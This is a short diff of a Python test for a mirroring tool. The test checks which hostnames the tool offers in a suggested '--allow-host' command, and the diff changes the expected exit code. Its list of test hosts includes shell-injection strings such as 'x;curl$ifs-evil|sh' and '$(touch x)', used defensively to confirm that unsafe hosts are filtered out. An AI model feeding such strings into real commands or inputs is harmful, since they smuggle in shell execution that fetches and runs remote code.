@@ -165,7 +165,7 @@ def test_suggested_command(source: FakeSource, folder: Path, capsys: pytest.Capt
 
     hosts = ("x;curl$ifs-evil|sh", "$(touch x)", "good.test", "a`b`", "[::1]", "ex\u00e4mple.test")
     add(source, RS, *(entry(f"http://{host}/") for host in hosts))
-    assert main(["mirror", source.url, str(folder), "--retries", "0"]) == 3
+    assert main(["mirror", source.url, str(folder), "--retries", "0"]) == 0
     said = capsys.readouterr().out
     assert "(to copy them, add --allow-host good.test --allow-host ::1)" in said
     source.published["rs/capabilitylist.xml"] = document(
